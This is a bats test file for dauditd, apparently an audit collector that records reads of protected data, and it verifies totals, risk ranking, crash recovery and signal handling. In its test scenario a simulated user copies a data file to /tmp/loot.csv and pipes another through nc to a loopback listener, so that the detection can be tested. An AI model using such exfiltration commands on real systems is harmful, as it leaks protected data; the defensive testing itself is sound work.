#!/usr/bin/env bats
# The collector against the real module.  dauditd stores every record the
# module writes: per-user totals in `daudit users` equal the bytes each
# user's processes read, through whichever program; the review ranks first
# the user who copied data out; a kill -9 in mid-stream and a restart lose
# nothing the ring held and count nothing twice; SIGTERM flushes open
# sessions and drains; SIGHUP loads a changed policy; 16 readers flooding
# protected files at the default ring size lose nothing.

load lib

PORT=9000

# collector_conf FILE DATABASE [POLICY]: the suite's dauditd.conf.  Every
# hour of every day is a working hour, so the VM's clock decides no
# finding, and sends to loopback count as egress: the VM has no other
# network.  A session that read 64 KiB and then sent data out is judged.
collector_conf() {
	cat >"$1" <<CONF
[collector]
database = $2
policy = ${3:-$POLICY}
batch_ms = 50

[rules]
egress_read_bytes = 64K
egress_loopback = yes

[hours]
start = 00:00
end = 24:00
days = mon-sun
CONF
}

size_of() {
	stat -c %s "$1"
}

# later: an --until one hour ahead.  (`now`, the default, is a whole
# second: a record of the current second would be left out.)
later() {
	date -u -d "@$(($(date +%s) + 3600))" +%Y-%m-%dT%H:%M:%SZ
}

# user_field USER FIELD: FIELD of USER's (login) row of `daudit users`.
user_field() {
	daudit users --format json |
		jq -r --arg u "$1" --arg f "$2" '.[] | select(.user == $u and .login == "yes") | .[$f]'
}

# exes_of USER: "EXECUTABLE=BYTES ..." from `daudit user USER`.
exes_of() {
	daudit user "$1" --format json |
		jq -r '.executables | sort_by(.executable) | map("\(.executable)=\(.bytes)") | join(" ")'
}

# retry N CMD...: run CMD every 0.1 s until it succeeds, at most N times.
retry() {
	local n=$1 i
	shift
	for ((i = 0; i < n; i++)); do
		"$@" && return 0
		sleep 0.1
	done
	return 1
}

listening() {
	netstat -ltn 2>/dev/null | grep -q ":$1 "
}

# wait_gone PID [SECONDS]: wait for a child to end, killing it after SECONDS.
wait_gone() {
	local i
	for ((i = 0; i < ${2:-30} * 10; i++)); do
		kill -0 "$1" 2>/dev/null || break
		sleep 0.1
	done
	kill "$1" 2>/dev/null || true
	wait "$1"
}

# use_scenario: the CLI verbs read the database of the scenario.
use_scenario() {
	export DAUDIT_CONFIG=$BATS_FILE_TMPDIR/scenario.conf
}

reload_module() {
	stop_collector || true
	unload_module
	load_module ring_kb=4096
}

# The scenario of the first tests, each user in login sessions of their
# own.  alice (support) reads three files with busybox cat and dd; bob
# (DBA) reads the most, through the reader helper's read, pread and splice
# paths and through io_uring; mallory reads less than bob but copies a
# file out of the tree and pipes another into nc to a listener.  What each
# read, by the tools' own account, goes to $BATS_FILE_TMPDIR/expect.*.
scenario() {
	local d=$BATS_FILE_TMPDIR n a b listener
	collector_conf "$d/scenario.conf" "$d/scenario.db"
	start_collector "$d/scenario.conf" "$d/dauditd.log"

	as_user alice cat "$DATA/customers.csv" >/dev/null
	as_user alice cat "$DATA/2026/phones.csv" >/dev/null
	# busybox dd says "N+M records in": N whole blocks, M partial ones.
	n=$(as_user alice dd if="$DATA/accounts.db" of=/dev/null bs=4096 count=10 2>&1 |
		sed -n 's/^\([0-9]*\)+0 records in$/\1/p')
	[ "$n" -eq 10 ]
	echo $(($(size_of "$DATA/customers.csv") + $(size_of "$DATA/2026/phones.csv") + n * 4096)) \
		>"$d/expect.alice"

	a=$(read_as bob read "$DATA/orders.db" 65536)
	a=$((a + $(read_as bob pread "$DATA/accounts.db")))
	a=$((a + $(read_as bob splice "$DATA/customers.csv")))
	b=$(as_user bob uring-read read "$DATA/accounts.db" | sed -n 's/^bytes=\([0-9]*\) .*/\1/p')
	echo "$a" >"$d/expect.bob.reader"
	echo "$b" >"$d/expect.bob.uring"
	echo $((a + b)) >"$d/expect.bob"

	as_user mallory cp "$DATA/customers.csv" /tmp/loot.csv
	# The listener's stdin stays open (a FIFO held by this shell): busybox
	# nc stops at the end of its stdin.
	rm -f "$d/nc.fifo"
	mkfifo "$d/nc.fifo"
	nc -l -p "$PORT" <"$d/nc.fifo" >"$d/received" 3>&- &
	listener=$!
	exec 7>"$d/nc.fifo"
	retry 50 listening "$PORT"
	# shellcheck disable=SC2016 # the inner shell expands them
	as_user mallory bash -c 'cat "$1" | nc 127.0.0.1 "$2"' _ "$DATA/accounts.db" "$PORT" >/dev/null
	wait_gone "$listener"
	exec 7>&-
	echo $(($(size_of "$DATA/customers.csv") + $(size_of "$DATA/accounts.db"))) >"$d/expect.mallory"

	stop_collector
}

setup_file() {
	load lib
	unload_module
	make_dataset
	head -c 3000000 /dev/urandom >"$DATA/orders.db"
	mkdir -p "$DATA/bulk" /srv/hr
	for i in $(seq 100); do
		head -c $((2000 + i * 37)) /dev/urandom >"$DATA/bulk/c$i.csv"
	done
	find "$DATA/bulk" -name '*.csv' | sort >/tmp/bulk.list
	head -c 54321 /dev/urandom >/srv/hr/salaries.csv
	chmod -R a+rX /srv
	load_module ring_kb=4096
	scenario
}

teardown_file() {
	stop_collector || true
	unload_module
}

teardown() {
	touch /tmp/stop-reading
	if [ -n "${HOLDER:-}" ]; then kill "$HOLDER" 2>/dev/null || true; fi
	stop_collector || true
}

@test "per-user totals in 'daudit users' equal the bytes each user's processes read" {
	use_scenario
	daudit users --format json | jq . >&2
	[ "$(daudit users --format json | jq length)" -eq 3 ]
	for who in alice bob mallory; do
		want=$(cat "$BATS_FILE_TMPDIR/expect.$who")
		got=$(user_field "$who" bytes)
		echo "$who read $want bytes; daudit users says $got"
		[ "$got" = "$want" ]
	done
	# Sessions (an opened file read by a process) and distinct files.
	[ "$(user_field alice sessions) $(user_field alice files)" = "3 3" ]
	[ "$(user_field bob sessions) $(user_field bob files)" = "4 3" ]
	[ "$(user_field mallory sessions) $(user_field mallory files)" = "2 2" ]
	[ "$(user_field carol bytes)" = "" ]
	# Nothing was lost on the way.
	st=$(daudit status --format json)
	echo "$st" | jq -c '{dropped, collector}'
	[ "$(echo "$st" | jq .dropped)" -eq 0 ]
	[ "$(echo "$st" | jq .collector.gaps)" -eq 0 ]
	[ "$(echo "$st" | jq -r .collector.state)" = stopped ]
}

@test "the programs each user read with, and what each program read" {
	use_scenario
	e=$BATS_FILE_TMPDIR/expect
	for who in alice bob mallory; do echo "$who: $(exes_of "$who")"; done
	[ "$(exes_of alice)" = "/bin/busybox=$(cat "$e.alice")" ]
	[ "$(exes_of bob)" = "/opt/daudit/helpers/reader=$(cat "$e.bob.reader") /opt/daudit/helpers/uring-read=$(cat "$e.bob.uring")" ]
	[ "$(exes_of mallory)" = "/bin/busybox=$(cat "$e.mallory")" ]
	[ "$(user_field alice top_exe)" = /bin/busybox ]
	[ "$(user_field bob top_exe)" = /opt/daudit/helpers/reader ]
}

@test "the review ranks mallory first, for reading protected data and then sending it out" {
	use_scenario
	daudit report --until "$(later)" >&2
	r=$(daudit report --format json --until "$(later)")
	echo "ranking: $(echo "$r" | jq -c '[.users[] | {user, risk, rules: [.findings[].rule]}]')"
	[ "$(echo "$r" | jq -r '.users[0].user')" = mallory ]
	rte=$(echo "$r" | jq -c '.users[0].findings[] | select(.rule == "read_then_egress")')
	[ -n "$rte" ]
	echo "$rte" | jq -r .reason |
		grep -E 'of protected data, then sent .* out \(last to .*\) within [0-9]+ minutes?, in the same login session'
	# Neither alice nor bob sent anything out.
	[ "$(echo "$r" | jq '[.users[] | select(.user != "mallory") | .findings[] | select(.rule == "read_then_egress")] | length')" -eq 0 ]
}

@test "what mallory copied out is recorded with its destination and exact bytes" {
	use_scenario
	ev=$(daudit events --type egress --limit 0 --format json --until "$(later)")
	echo "$ev" | jq -c '.[] | {login_user, exe, dest, bytes, kind, flags}'
	[ "$(size_of "$BATS_FILE_TMPDIR/received")" -eq "$(size_of "$DATA/accounts.db")" ]
	[ "$(echo "$ev" | jq '[.[] | select(.dest == "/tmp/loot.csv") | .bytes] | add')" -eq "$(size_of "$DATA/customers.csv")" ]
	[ "$(echo "$ev" | jq --arg d "127.0.0.1:$PORT/tcp" '[.[] | select(.dest == $d) | .bytes] | add')" -eq "$(size_of "$DATA/accounts.db")" ]
	[ "$(echo "$ev" | jq -r 'map(.login_user) | unique | join(" ")')" = mallory ]
	[ "$(user_field alice egress) $(user_field bob egress)" = "0 0" ]
}

@test "kill -9 of dauditd mid-stream, then a restart: nothing lost, nothing counted twice" {
	reload_module
	d=$BATS_TEST_TMPDIR
	collector_conf "$d/c.conf" "$d/c.db"
	start_collector "$d/c.conf" "$d/dauditd.log"
	# alice reads the 100 bulk files, pass after pass, until told to stop;
	# each pass prints the bytes it read.
	rm -f /tmp/stop-reading
	# shellcheck disable=SC2016 # the inner shell expands it
	(as_user alice bash -c 'while [ ! -e /tmp/stop-reading ]; do reader list /tmp/bulk.list; done' |
		cat >"$d/passes") 3>&- &
	loop=$!
	stored() { [ "$(daudit status --format json | jq .collector.records_stored)" -ge "$1" ]; }
	retry 300 stored 300
	kill -0 "$loop" # still reading: the kill comes in mid-stream
	rc=0
	stop_collector KILL || rc=$?
	[ "$rc" -eq 137 ]
	st=$(daudit status --format json)
	echo "at the kill: $(echo "$st" | jq -c '{records, collector: .collector | {state, records_stored}}')"
	[ "$(echo "$st" | jq -r .collector.state)" = died ]
	killed_at=$(echo "$st" | jq .collector.records_stored)
	# Records pile up in the rings meanwhile.
	sleep 3
	start_collector "$d/c.conf" "$d/dauditd.log"
	sleep 2
	touch /tmp/stop-reading
	wait_gone "$loop" 120
	stop_collector

	read_bytes=$(sed -n 's/^bytes=\([0-9]*\) .*/\1/p' "$d/passes" | awk '{ s += $1 } END { print s + 0 }')
	passes=$(grep -c '^bytes=' "$d/passes")
	sessions=$((passes * $(wc -l </tmp/bulk.list)))
	got=$(user_field alice bytes)
	events=$(daudit events --type read --login-user alice --limit 0 --format json --until "$(later)" | jq length)
	st=$(daudit status --format json)
	# One line in the TAP output: how much went through, and how much
	# was stored at the kill.
	echo "# kill -9 after $killed_at stored records; alice read $read_bytes bytes in $passes passes" \
		"($sessions files opened); stored: $got bytes, $(user_field alice sessions) sessions," \
		"$events records; dropped $(echo "$st" | jq .dropped), gaps $(echo "$st" | jq .collector.gaps)" >&3
	[ "$passes" -gt 0 ]
	[ "$(echo "$st" | jq .dropped)" -eq 0 ]
	[ "$got" -eq "$read_bytes" ]
	[ "$(user_field alice sessions)" -eq "$sessions" ]
	[ "$events" -eq "$sessions" ]
	[ "$(echo "$st" | jq .collector.gaps)" -eq 0 ]
	[ "$(echo "$st" | jq .collector.records_missing)" -eq 0 ]
	[ "$(echo "$st" | jq -r .collector.state)" = stopped ]
}

@test "SIGTERM: open sessions are flushed, every record is stored and acknowledged, exit 0" {
	reload_module
	# Only the collector's FLUSH can report the held file now.
	echo 3600 >/sys/module/daudit/parameters/flush_age_sec
	d=$BATS_TEST_TMPDIR
	collector_conf "$d/c.conf" "$d/c.db"
	start_collector "$d/c.conf" "$d/dauditd.log"
	coproc HOLD { as_user alice reader hold "$DATA/accounts.db" 300000 120; }
	read -r line <&"${HOLD[0]}"
	n=$(echo "$line" | sed -n 's/^bytes=\([0-9]*\) .*/\1/p')
	HOLDER=$(echo "$line" | sed -n 's/.*pid=\([0-9]*\).*/\1/p')
	[ "$n" -eq 300000 ]
	stop_collector
	cat "$d/dauditd.log"
	grep -q 'stopped; every record read is stored and acknowledged' "$d/dauditd.log"
	[ "$(daudit status --format json | jq -r .collector.state)" = stopped ]
	ev=$(daudit events --type read --login-user alice --format json --until "$(later)")
	echo "$ev" | jq -c '.[] | {path, bytes, end_reason, final}'
	[ "$(echo "$ev" | jq length)" -eq 1 ]
	[ "$(echo "$ev" | jq -r '.[0] | "\(.path) \(.bytes) \(.end_reason) \(.final)"')" = "$DATA/accounts.db $n flush 0" ]
	[ "$(user_field alice bytes)" -eq "$n" ]
	# Nothing was left unacknowledged: the next consumer gets none of it.
	daudit monitor >"$d/after.json"
	[ "$(jq -s 'map(select(.event.action == "file_read")) | length' "$d/after.json")" -eq 0 ]
	kill "$HOLDER"
}

@test "SIGHUP: a changed policy is loaded; a configuration with an error is refused and the running one stays" {
	reload_module
	d=$BATS_TEST_TMPDIR
	cp "$POLICY" "$d/policy.conf"
	collector_conf "$d/c.conf" "$d/c.db" "$d/policy.conf"
	start_collector "$d/c.conf" "$d/dauditd.log"
	gen() { daudit status --format json | jq .policy_generation; }
	datasets() { daudit policy show --format json | jq -r '.datasets | map(.name) | join(" ")'; }
	g=$(gen)
	[ "$(datasets)" = customers ]
	# /srv/hr is not protected yet: this read is not recorded.
	read_as alice read /srv/hr/salaries.csv >/dev/null

	cat >>"$d/policy.conf" <<'POL'
dataset hr {
	tree /srv/hr
}
POL
	kill -HUP "$DAUDITD_PID"
	has_hr() { [ "$(datasets)" = "customers hr" ]; }
	retry 100 has_hr
	[ "$(gen)" -eq $((g + 1)) ]
	grep -q 'configuration reloaded from' "$d/dauditd.log"
	n1=$(read_as alice read /srv/hr/salaries.csv)

	sed -i 's/^batch_ms = 50$/batch_ms = 10ms/' "$d/c.conf"
	kill -HUP "$DAUDITD_PID"
	refused() { grep -q "batch_ms must be a whole number.*keeping the previous configuration" "$d/dauditd.log"; }
	retry 100 refused
	kill -0 "$DAUDITD_PID"
	[ "$(gen)" -eq $((g + 1)) ]
	n2=$(read_as alice pread /srv/hr/salaries.csv)
	stop_collector
	cat "$d/dauditd.log"

	ev=$(daudit events --type read --login-user alice --format json --until "$(later)")
	echo "$ev" | jq -c '.[] | {dataset, path, bytes}'
	[ "$(echo "$ev" | jq -r 'map("\(.dataset) \(.path)") | unique | join(",")')" = "hr /srv/hr/salaries.csv" ]
	[ "$(echo "$ev" | jq 'map(.bytes) | add')" -eq $((n1 + n2)) ]
	[ "$(user_field alice bytes)" -eq $((n1 + n2)) ]
}

@test "no policy in force: dauditd says so at LOG_CRIT and to the SIEM, status exits 3, until a load" {
	reload_module
	d=$BATS_TEST_TMPDIR
	printf '# every dataset commented out\n#dataset x { tree /srv }\n' >"$d/empty.conf"
	collector_conf "$d/c.conf" "$d/c.db" "$d/empty.conf"
	cat >>"$d/c.conf" <<CONF

[sink out]
type = file
path = $d/siem.json
types = policy
CONF
	run dauditd --check-config --config "$d/c.conf"
	echo "$output"
	[ "$status" -eq 1 ]
	echo "$output" | grep -q 'empty.conf: no dataset'
	start_collector "$d/c.conf" "$d/dauditd.log"
	cat "$d/dauditd.log"
	grep -q 'dauditd: no policy in force: nothing is protected' "$d/dauditd.log"
	jq -e -s 'map(select(.event.dataset == "daudit.protection")) | length == 1 and
		.[0].event.action == "no-policy-in-force" and .[0].event.outcome == "failure"' "$d/siem.json"
	run daudit status
	echo "$output"
	[ "$status" -eq 3 ]
	echo "$output" | grep -q '^policy: *NONE LOADED: nothing is protected'
	echo "$output" | grep -q 'status: no policy in force'
	# A load by hand is seen through its POLICY record: protected again.
	daudit policy load "$POLICY"
	settle_collector
	for _ in $(seq 50); do
		grep -q 'policy generation [0-9]* in force: protecting' "$d/dauditd.log" && break
		sleep 0.1
	done
	cat "$d/dauditd.log"
	grep -q 'policy generation [0-9]* in force: protecting 1 datasets' "$d/dauditd.log"
	protected_again() {
		jq -e -s 'map(select(.event.dataset == "daudit.protection")) | length == 2 and
			.[1].event.action == "policy-in-force" and .[1].daudit.policy.datasets == 1' "$d/siem.json"
	}
	for _ in $(seq 50); do
		protected_again >/dev/null && break
		sleep 0.1
	done
	protected_again
	run daudit status
	[ "$status" -eq 0 ]
	stop_collector
}

@test "16 readers open, read 4 KiB and close protected files with dauditd attached: no record dropped" {
	# The default ring (no ring_kb): the collector must keep up, not the
	# ring absorb the burst.  16 readers, 1,500 sessions each, 24,000
	# records, as fast as they can.
	stop_collector || true
	unload_module
	load_module
	d=$BATS_TEST_TMPDIR
	collector_conf "$d/c.conf" "$d/c.db"
	start_collector "$d/c.conf" "$d/dauditd.log"
	files=("$DATA/customers.csv" "$DATA/2026/phones.csv" "$DATA/accounts.db" "$DATA/orders.db")
	pids=()
	t0=$(date +%s.%N)
	for i in $(seq 16); do
		as_user alice readbench count "${files[$((i % 4))]}" 1500 >"$d/flood.$i" &
		pids+=($!)
	done
	wait "${pids[@]}"
	t1=$(date +%s.%N)
	settle_collector
	t2=$(date +%s.%N)
	stop_collector
	opens=$(cat "$d"/flood.* | awk '{ s += $1 } END { print s + 0 }')
	st=$(daudit status --format json)
	events=$(daudit events --type read --login-user alice --limit 0 --format json --until "$(later)" | jq length)
	echo "# flood: $opens sessions in $(echo "$t0 $t1" | awk '{ printf "%.1f", $2 - $1 }') s," \
		"drained $(echo "$t1 $t2" | awk '{ printf "%.1f", $2 - $1 }') s later, $(nproc) vCPUs;" \
		"module: $(echo "$st" | jq .records) written, $(echo "$st" | jq .dropped) dropped;" \
		"stored $events read records, gaps $(echo "$st" | jq .collector.gaps)" >&3
	[ "$opens" -eq 24000 ]
	[ "$(echo "$st" | jq .dropped)" -eq 0 ]
	[ "$(echo "$st" | jq .collector.gaps)" -eq 0 ]
	[ "$events" -eq 24000 ]
}

@test "a database dauditd may not use is refused before the kernel is touched: file, policy and device unchanged" {
	stop_collector || true
	d=$BATS_TEST_TMPDIR
	printf 'not a database, and not ours\n' >"$d/other.db"
	sum=$(sha256sum "$d/other.db")
	cat >"$d/p.conf" <<'POL'
dataset elsewhere { tree /srv/public }
POL
	collector_conf "$d/c.conf" "$d/other.db" "$d/p.conf"
	gen=$(daudit status --format json | jq .policy_generation)
	rc=0
	dauditd --config "$d/c.conf" >"$d/out" 2>&1 || rc=$?
	cat "$d/out"
	[ "$rc" -eq 1 ]
	[ "$(wc -l <"$d/out")" -eq 1 ]
	grep -q "other.db" "$d/out"
	[ "$(sha256sum "$d/other.db")" = "$sum" ]
	[ ! -e "$d/other.db-wal" ]
	st=$(daudit status --format json)
	[ "$(echo "$st" | jq .policy_generation)" = "$gen" ]
	[ "$(echo "$st" | jq .consumer_pid)" = 0 ]
}
